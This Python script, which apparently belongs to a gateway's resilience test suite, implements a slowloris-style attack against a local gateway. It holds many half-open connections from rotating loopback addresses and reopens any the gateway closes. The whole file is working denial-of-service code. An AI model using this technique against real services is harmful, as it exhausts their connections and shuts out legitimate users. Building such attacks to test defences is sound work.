"""Attacker: holds connections that never finish a request. One that the gateway closes is opened
again, at a pace that leaves the machine to the others.

    silent.py PORT CONNECTIONS [WORDS...]      they say these in turn before they fall silent
"""

import selectors
import socket
import sys
import time

from attacker import Attack

# They come from so many addresses, the normal client's among them: one alone may not have all.
ADDRESSES = 8
TICK_SECONDS, OPENED_PER_TICK = 0.05, 50
OPENING_SECONDS_MAX, OPENING_TICK_SECONDS = 5, 0.01


class Silence:
    def __init__(self, port, wanted, words):
        self.port, self.wanted, self.words = port, wanted, words
        self.selector, self.opened = selectors.DefaultSelector(), 0

    def open(self):
        connection = socket.socket()
        connection.setblocking(False)
        connection.bind((f"127.0.0.{1 + self.opened % ADDRESSES}", 0))
        connection.connect_ex(("127.0.0.1", self.port))
        words = self.words[self.opened % len(self.words)] if self.words else b""
        # Writable once: connected. Then readable: the gateway's goodbye.
        self.selector.register(connection, selectors.EVENT_WRITE, words)
        self.opened += 1

    def look(self, timeout_seconds):
        for key, events in self.selector.select(timeout_seconds):
            try:
                if events & selectors.EVENT_WRITE:
                    # Fails when there is no connection, even without words.
                    key.fileobj.send(key.data)
                    self.selector.modify(key.fileobj, selectors.EVENT_READ)
                elif not key.fileobj.recv(4096):
                    self.close(key.fileobj)
            except OSError:
                self.close(key.fileobj)

    def close(self, connection):
        self.selector.unregister(connection)
        connection.close()

    def connected(self):
        events = (key.events for key in self.selector.get_map().values())
        return sum(event == selectors.EVENT_READ for event in events)

    def refill(self):
        for _ in range(min(OPENED_PER_TICK, self.wanted - len(self.selector.get_map()))):
            self.open()


def main(port, wanted, words):
    attack = Attack()
    silence = Silence(port, wanted, words)
    ends = time.monotonic() + OPENING_SECONDS_MAX
    while silence.connected() < silence.wanted and time.monotonic() < ends:
        silence.refill()
        silence.look(OPENING_TICK_SECONDS)
    attack.under_way()
    while not attack.over.is_set():
        silence.look(TICK_SECONDS)
        silence.refill()
        time.sleep(TICK_SECONDS)
    attack.end(held=silence.connected(), opened=silence.opened)


if __name__ == "__main__":
    main(int(sys.argv[1]), int(sys.argv[2]), [words.encode() for words in sys.argv[3:]])
